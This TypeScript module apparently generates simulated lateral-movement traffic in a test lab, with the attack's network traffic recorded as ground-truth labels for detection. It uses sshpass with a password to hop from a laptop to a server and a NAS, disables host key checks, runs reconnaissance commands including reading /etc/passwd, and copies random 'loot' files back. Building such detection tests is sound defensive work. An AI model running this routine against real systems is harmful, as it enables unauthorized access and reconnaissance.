import { type Attack, type Intensity, intensities } from '../contracts.ts';
import { waitFor } from '../schedule.ts';
import { account } from '../services/own-folder.ts';

const sshPort = 22;
/** Below what the kernel gives to people on the same hosts. */
const firstPort = 25_100;
const portsPerHop = 40;
type Plan = { readonly rounds: number; readonly kilobytes: number };
const plans: Readonly<Record<Intensity, Plan>> = {
  quiet: { rounds: 1, kilobytes: 40 },
  medium: { rounds: 3, kilobytes: 300 },
  loud: { rounds: 8, kilobytes: 900 },
};
const roundSeconds = 25;
const commands = ['id', 'uname -a', 'cat /etc/passwd', 'ls -la /home', 'ss -tn'];

/** With a stolen password from one host to the next and back with what lies there: sshpass, ssh and scp. */
export const lateralMovement: Attack = {
  kind: 'lateral-movement',
  summary: 'one stolen password, from host to host over SSH',
  needs: ['sshpass', 'ssh', 'scp', 'socat'],
  intensities,
  actor: 'laptop',
  targets: ['server', 'nas'],
  async run({ lab, intensity, actor, targets, random, seconds, signal }) {
    const [first = lab.host('server'), second = lab.host('nas')] = targets;
    const { rounds, kilobytes } = plans[intensity];
    const offset = random.below(500);
    const begun = performance.now();
    for (let round = 0; round < rounds; round += 1) {
      const left = seconds - (performance.now() - begun) / 1000;
      if (left < 2 || signal.aborted) break;
      // A connection each: commands there, from there to the next, what was found back to here.
      const ports = [0, 1].map(index => firstPort + offset + 2 * round + index);
      const onward = firstPort + offset + portsPerHop + 2 * round;
      const hop = (name: string, port: number): string[] => [
        ...['-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR'],
        ...['-o', 'PubkeyAuthentication=no'],
        ...['-o', `ProxyCommand=socat - TCP:${name}:${sshPort},sourceport=${port},reuseaddr`],
      ];
      const login = ['-p', account.password];
      const loot = `/home/${account.user}/loot-${round}`;
      const quoted = (words: readonly string[]): string => words.map(word => `'${word}'`).join(' ');
      const make = `${commands.slice(3).join('; ')}; head -c ${kilobytes}k /dev/urandom > ${loot}`;
      const there = quoted([
        'sshpass',
        ...login,
        'ssh',
        ...hop(second.address, onward),
        `${account.user}@${second.address}`,
        make,
      ]);
      const fetch = quoted([
        'sshpass',
        ...login,
        'scp',
        '-q',
        ...hop(second.address, onward + 1),
        `${account.user}@${second.address}:${loot}`,
        loot,
      ]);
      const script = `${commands.join('; ')}; ${there}; ${fetch}`;
      const limit = { seconds: Math.max(1, left - 1), signal };
      const begin = ['ssh', ...hop(first.address, ports[0] ?? 0), `${account.user}@${first.address}`, script];
      await actor.machine.attempt('sshpass', [...login, ...begin], limit);
      const back = [
        'scp',
        '-q',
        ...hop(first.address, ports[1] ?? 0),
        `${account.user}@${first.address}:${loot}`,
      ];
      await actor.machine.attempt('sshpass', [...login, ...back, `${actor.folder}/loot-${round}`], limit);
      if (!(await waitFor(Math.min(roundSeconds, seconds / rounds / 3), signal))) break;
    }
    const range = (start: number): number[] =>
      Array.from({ length: portsPerHop }, (_, index) => start + index);
    const secure = { protocol: 'tcp', targetPorts: [sshPort] } as const;
    const start = firstPort + offset;
    return {
      tool: 'sshpass, ssh, scp',
      arguments: `${account.user}@${first.name} -> ${account.user}@${second.name}, ${rounds} × ${kilobytes} KiB`,
      claims: [
        { ...secure, actors: [actor.address], targets: [first.address], actorPorts: range(start) },
        {
          ...secure,
          actors: [first.address],
          targets: [second.address],
          actorPorts: range(start + portsPerHop),
        },
      ],
    };
  },
};
